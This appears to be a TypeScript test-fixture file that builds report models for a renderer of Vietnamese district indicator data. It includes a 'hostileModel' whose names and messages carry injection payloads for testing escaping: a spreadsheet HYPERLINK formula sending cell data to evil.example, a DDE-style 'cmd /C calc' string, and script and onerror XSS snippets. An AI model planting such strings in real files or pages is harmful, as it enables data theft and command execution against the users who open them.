import type { Status } from '../../src/compute/attainment.js';
import type { Attainment, DistrictValue, IndicatorReport, ReportModel } from '../../src/compute/model.js';
import { computeReport } from '../../src/compute/report.js';
import { finding } from '../../src/model/finding.js';
import { normalise } from '../../src/normalise/index.js';
import { readPaths } from '../../src/read/index.js';
import { builtinIndex } from '../helpers.js';

/** Report models for the renderer tests: the bundled 2023 data through the real pipeline, and small hand-built ones. */

export const index2023 = builtinIndex();
/** Indicators whose city value is the districts' total, as the CLI passes them to the cards. */
export const TOTALS = index2023.programme.indicators.filter((i) => i.aggregation === 'sum').map((i) => i.id);

let cached: Promise<ReportModel> | null = null;
export function report2023(): Promise<ReportModel> {
  cached ??= (async () => {
    const read = await readPaths(['fixtures/2023']);
    const n = normalise(read.tables, index2023, { year: 2023 });
    return computeReport(n.observations, index2023, { year: 2023 }, [...read.findings, ...n.findings]);
  })();
  return cached;
}

export const att = (target: string | null, percent: number | null, status: Status): Attainment => ({ target, percent, status });
const none = att(null, null, 'no-target');

function district(code: string, name: string, value: number | null, annual: Attainment = none, period: Attainment = none): DistrictValue {
  return { code, name, value, annual, period, sources: [] };
}

function indicator(over: Partial<IndicatorReport> & Pick<IndicatorReport, 'id' | 'name'>): IndicatorReport {
  return {
    nameEn: over.name,
    unit: '%',
    unitEn: '%',
    direction: 'higher',
    decimals: 2,
    official: true,
    evaluated: true,
    value: null,
    origin: null,
    previous: null,
    baseline: null,
    annual: none,
    period: none,
    districts: [],
    sources: [],
    ...over,
  };
}

function model(indicators: IndicatorReport[], over: Partial<ReportModel> = {}): ReportModel {
  return {
    programme: {
      id: 'test',
      title: 'Chương trình thử',
      shortTitle: 'CT thử',
      from: 2021,
      to: 2025,
      targets: 'original',
      targetsTitle: 'Chỉ tiêu gốc',
      indicatorCount: 5,
      known: indicators.filter((i) => i.official).length,
      note: null,
    },
    year: 2023,
    summary: {
      indicators: indicators.length,
      evaluated: 2,
      periodAchieved: 1,
      annualExceeded: 1,
      annualAchieved: 1,
      notAchieved: 0,
      noData: 0,
      periodEvaluated: 1,
      annualEvaluated: 1,
      districtsReporting: 3,
      districtsExpected: 3,
    },
    indicators,
    derived: [],
    districts: [
      { code: '001', name: 'Ba Đình', kind: 'quận', reported: true },
      { code: '002', name: 'Hoàn Kiếm', kind: 'quận', reported: true },
      { code: '003', name: 'Tây Hồ', kind: 'quận', reported: true },
    ],
    issues: [],
    ...over,
  };
}

/**
 * Three districts. jobs (a total, higher is better): 150, 100, 50 of a city 300 combined from them, so the
 * city average is 100. poor (a rate, lower is better): 0, 0, 0.12 against a city 0.05. beds: city only.
 */
export function smallModel(origin: 'city' | 'districts' = 'districts', cityJobs = 300): ReportModel {
  return model(
    [
      indicator({
        id: 'jobs',
        name: 'Giải quyết việc làm',
        nameEn: 'Jobs created',
        unit: 'người',
        unitEn: 'people',
        decimals: 0,
        value: cityJobs,
        origin,
        annual: att('250', 120, 'exceeded'),
        districts: [
          district('001', 'Ba Đình', 150, att('100', 150, 'exceeded')),
          district('002', 'Hoàn Kiếm', 100, att('100', 100, 'achieved')),
          district('003', 'Tây Hồ', 50, att('100', 50, 'not-achieved')),
        ],
      }),
      indicator({
        id: 'poor',
        name: 'Tỷ lệ hộ nghèo',
        nameEn: 'Poor households',
        direction: 'lower',
        decimals: 3,
        value: 0.05,
        origin: 'districts',
        period: att('cơ bản không còn hộ nghèo', null, 'not-evaluated'),
        districts: [district('001', 'Ba Đình', 0), district('002', 'Hoàn Kiếm', 0), district('003', 'Tây Hồ', 0.12)],
      }),
      indicator({
        id: 'beds',
        name: 'Số giường bệnh/vạn dân',
        nameEn: 'Hospital beds per 10,000',
        unit: 'giường/vạn dân',
        unitEn: 'beds per 10,000',
        value: 36.44,
        origin: 'city',
        period: att('30', 121.47, 'exceeded'),
      }),
    ],
    {
      issues: [
        finding('warning', 'odd-value', 'Tây Hồ: a value to check', { file: 'districts/003.csv', sheet: null, row: 3, column: 'D', cell: 'D3' }, { indicator: 'jobs', district: 'Tây Hồ' }),
        finding('info', 'partial-aggregate', 'jobs: 3 of 3', {}, { indicator: 'jobs', district: null }),
      ],
    },
  );
}

/** Names, units, targets and messages that try to be formulas, markup or table syntax; a negative value. */
export const HOSTILE_NAME = '=HYPERLINK("http://evil.example/?q="&A1,"bấm | vào <b>đây</b>")';
export function hostileModel(): ReportModel {
  return model(
    [
      indicator({
        id: 'evil',
        name: HOSTILE_NAME,
        nameEn: '@SUM(1+1)*cmd|\' /C calc\'!A0',
        unit: '+%',
        unitEn: '-x',
        decimals: 1,
        value: -3.5,
        origin: 'districts',
        annual: att('-5 hộ', null, 'not-achieved'),
        period: att('\tTAB', null, 'no-data'),
        districts: [district('001', '\rCR <script>alert(1)</script>', -3.5, att('+2', null, 'not-achieved'))],
      }),
    ],
    { issues: [finding('error', 'bad-cell', 'Ô <img src=x onerror=alert(1)> | *đậm* [link](http://evil.example)\nline two', { file: 'a|b.csv' })] },
  );
}

/** `units` wards with `indicators` rates each (unit i's value i mod 97, so values tie), and one finding per unit. */
export function wideModel(units: number, indicators: number): ReportModel {
  const base = smallModel();
  const codes = Array.from({ length: units }, (_, i) => String(10000 + i));
  const rate = (k: number): IndicatorReport => ({
    ...base.indicators[1]!,
    id: `rate-${k}`,
    districts: codes.map((code, i) => district(code, `Phường ${code}`, i % 97)),
  });
  return {
    ...base,
    indicators: Array.from({ length: indicators }, (_, k) => rate(k)),
    districts: codes.map((code) => ({ code, name: `Phường ${code}`, kind: 'phường', reported: true })),
    issues: codes.map((code) => ({ ...finding('warning', 'odd-value', `${code}: to check`, {}, { district: `Phường ${code}` }), unitCode: code })),
  };
}
